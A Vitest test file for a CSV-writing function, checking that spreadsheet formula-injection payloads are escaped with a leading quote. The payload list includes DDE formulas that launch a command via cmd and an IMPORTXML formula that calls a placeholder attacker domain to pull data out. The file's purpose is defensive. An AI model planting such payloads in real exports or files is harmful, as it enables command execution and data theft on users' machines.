import { expect, test } from "vitest";
import { callLine } from "./call-line.ts";

/** PayloadsAllTheThings, CSV Injection; and the beginnings that ASVS 5.0 V1.2.10 names, with their full-width forms. */
test.for([
  `=2+5+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=cmd|' /C calc'!'A1'`,
  `=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A`,
  `=         cmd|'/c calc.exe'!A`,
  `=IMPORTXML("http://[ATTACKER.DOMAIN.TLD]/csv", "//a/@href")`,
  "+1+1",
  "-1+1",
  "\t=1",
  "\r=1",
  "\0=1",
  "＝1",
  "＋1",
  "－1",
  "＠A1",
  "+27711234567*1",
])("%o is text to every spreadsheet", (cell) => {
  expect(callLine([cell])).toMatch(/^"?'/);
});

test("a number in its international form stays as it is, and quotes stay quotes", () => {
  expect(callLine(["+27711234567", `a "b", c`, "plain"])).toBe(
    `+27711234567,"a ""b"", c",plain\r\n`,
  );
});
